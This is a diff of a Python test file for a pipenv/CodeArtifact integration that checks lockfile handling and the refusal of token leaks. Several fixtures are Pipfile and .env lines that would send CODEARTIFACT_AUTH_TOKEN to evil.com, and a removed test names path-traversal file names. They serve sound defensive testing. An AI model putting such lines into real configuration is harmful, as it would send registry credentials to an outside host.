@@ -2,23 +2,26 @@
 
 from __future__ import annotations
 
+import copy
+import io
 import json
-import os
-import re
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
 from pathlib import Path
 from tempfile import TemporaryDirectory
+from typing import Any
 
 import pytest
 import tomlkit
 from hypothesis import given
 from hypothesis import strategies as st
+from pipenv.vendor.plette import Lockfile
 from support.programs import PIPENV, run
 from support.projects import PYPI_SOURCE, write_pipfile
 
 from codeartifact_pipenv.errors import ConfigurationError
-from codeartifact_pipenv.project.pipfile import Project, load_project
+from codeartifact_pipenv.project.lock import format_lock, lock_with_sources_at
+from codeartifact_pipenv.project.pipfile import Project, load_project, parse_lock, read_lock
 
 TOKEN = "CODEARTIFACT_AUTH_TOKEN"
 HOST = "my-dom-123456789012.d.codeartifact.eu-west-1.amazonaws.com"
@@ -41,13 +44,6 @@ def nested(folder: Path, levels: int) -> Path:
     below = folder.joinpath(*(f"d{number}" for number in range(levels)))
     below.mkdir(parents=True, exist_ok=True)
     return below
-
-
-def test_a_folder_without_pipfile_is_an_empty_project(tmp_path: Path) -> None:
-    project = load(tmp_path)
-    assert (project.pipfile, project.lock, project.directory) == (None, None, str(tmp_path))
-    assert (project.sources(), project.scripts) == ([], {})
-    assert project.assign_variables([]) == {}
 
 
 @pytest.mark.wide
@@ -146,39 +142,20 @@ def test_a_lock_that_crashes_pipenv_is_an_error_with_a_reason(tmp_path: Path, re
     assert reason in sentence
 
 
-INVALID = {
-    '[packages]\nsix = "*"\nsix = "*"\n': r"is not valid TOML: .*line 3",
-    "<<<<<<< HEAD\n": r"is not valid TOML: .*line 1",
-    "[packages]\n# caf\xe9\n": r", line 2: the Pipfile is not UTF-8\.",
-    "[[source]]\nurl = 3\n": r"Source 1 in .* has no url\.",
-    'source = ["https://x"]\n': r"Source 1 in .* has no url\.",
-}
-
-
-@pytest.mark.parametrize("text", INVALID, ids=range(len(INVALID)))
-def test_an_invalid_pipfile_is_an_error_with_file_and_line(tmp_path: Path, text: str) -> None:
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ('[packages]\nsix = "*"\nsix = "*"\n', "is not valid TOML"),
+        ("[packages]\n# caf\xe9\n", ", line 2: the Pipfile is not UTF-8."),
+        ("[[source]]\nurl = 3\n", " has no url."),
+        ('source = ["https://x"]\n', " has no url."),
+    ],
+)
+def test_an_invalid_pipfile_is_an_error_that_names_it(tmp_path: Path, text: str, said: str) -> None:
     path = tmp_path / "Pipfile"
     path.write_text(text, encoding="latin-1")
     sentence = refusal(tmp_path)
-    assert str(path) in sentence
-    assert re.search(INVALID[text], sentence), sentence
-
-
-@pytest.mark.skipif(
-    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can play another user"
-)
-def test_an_unreadable_pipfile_is_an_error_with_the_reason() -> None:
-    with TemporaryDirectory() as name:
-        folder = Path(name)
-        folder.chmod(0o755)
-        path = write_pipfile(folder, SOURCE)
-        path.chmod(0o600)
-        os.seteuid(65534)
-        try:
-            sentence = refusal(folder)
-        finally:
-            os.seteuid(0)
-    assert sentence == f"{path} cannot be read: Permission denied."
+    assert (str(path) in sentence, said in sentence) == (True, True)
 
 
 def test_dotenv_overrides_the_environment(tmp_path: Path) -> None:
@@ -209,6 +186,7 @@ def test_pipenv_dotenv_location_names_a_file_that_may_set_pipenv_pipfile(tmp_pat
 SENDS = f"would send the token in {TOKEN}"
 ENTRIES = {
     f'orb = {{file = "https://aws:${TOKEN}@evil.com/orb.whl"}}': SENDS,
+    f'orb = {{file = "{URL.replace("my-dom", "other")}"}}': SENDS,
     f'orb = "${{{TOKEN}}}"': SENDS,
     f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}': SENDS,
     # pip would combine these.
@@ -239,15 +217,6 @@ def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_
     assert project.scripts == {"x": f"echo ${TOKEN}"}
 
 
-@pytest.mark.parametrize("name", ["/../../x", "a\\\\b", "a\\nb"])
-def test_pylock_name_must_not_be_a_path(name: str, tmp_path: Path) -> None:
-    write_pipfile(tmp_path, SOURCE, f'[pipenv]\npylock_name = "{name}"\n')
-    with pytest.raises(ConfigurationError, match="is not a valid part of a file name"):
-        _ = load(tmp_path).pylock
-    write_pipfile(tmp_path, SOURCE, '[pipenv]\npylock_name = "py3.12 dev"\n')
-    assert load(tmp_path).pylock == str(tmp_path / "pylock.py3.12 dev.toml")
-
-
 COPIES = [
     *(f"LEAK=x${{{TOKEN}}}", f"LEAK=${{{TOKEN}:-none}}"),
     f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
@@ -264,6 +233,29 @@ def test_dotenv_must_not_copy_the_token(tmp_path: Path, line: str) -> None:
         project.assign_variables(project.sources())
 
 
+def test_locks_are_formatted_and_read_as_by_pipenv(tmp_path: Path) -> None:
+    hashes = {"hashes": ["sha256:2", "sha256:1"], "index": "pypi", "extras": ["b"]}
+    document = {
+        "docs": {"toml": {"version": "==0.10.2", **hashes}, "repo": {"git": "https://x.example"}},
+        "default": {"local": {"path": "./\N{SNOWMAN}/\\\t", "editable": True}},
+        "develop": {},
+        "_meta": {
+            "sources": [{"name": "pypi", "url": "https://pypi.org/simple", "verify_ssl": False}],
+            "requires": {"python_version": "3.11"},
+            "pipfile-spec": 6,
+            "hash": {"sha256": "0" * 64},
+        },
+        "Zoo": {},
+    }
+    out = io.StringIO()
+    Lockfile(copy.deepcopy(document)).dump(out)
+    assert format_lock(document) == out.getvalue().encode()
+    path = tmp_path / "Pipfile.lock"
+    assert read_lock(str(path)) is None
+    path.write_bytes(format_lock(document))
+    assert read_lock(str(path)) == document
+
+
 scalars = st.text() | st.integers(-(2**63), 2**63 - 1) | st.booleans()
 scalars |= st.sampled_from(["https://x/", URL, f"${{{TOKEN}}}", "aws:${X}@", "${", "*"])
 names = st.text(min_size=1) | st.sampled_from(
@@ -274,10 +266,9 @@ values = st.recursive(
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=4),
     max_leaves=12,
 )
-sources = st.lists(st.fixed_dictionaries({"url": scalars, "name": values}), max_size=3)
+tables = st.lists(st.fixed_dictionaries({"url": scalars, "name": values}), max_size=3)
 documents = st.dictionaries(names, values, max_size=5) | st.fixed_dictionaries(
-    {"source": sources},
-    optional={"packages": values, "dev-packages": values, "scripts": values, "x": values},
+    {"source": tables, "packages": values, "scripts": values}
 )
 
 
@@ -299,3 +290,12 @@ def test_any_toml_document_is_read_or_refused(document: dict[str, object], sourc
 @given(st.binary() | st.text().map(str.encode), st.binary())
 def test_any_bytes_are_read_or_refused(content: bytes, lock: bytes) -> None:
     check_read_or_refused(content, lock)
+
+
+@given(values)
+def test_other_json_is_not_a_lock(value: Any) -> None:
+    for document in (value, {"_meta": value}):
+        assert parse_lock(json.dumps(document).encode()) is None
+    meta = {"sources": value, "hash": {"sha256": ""}}
+    lock = parse_lock(json.dumps({"_meta": meta}).encode())
+    assert lock is None or lock_with_sources_at(lock, "http://127.0.0.1:4711/simple", "1")
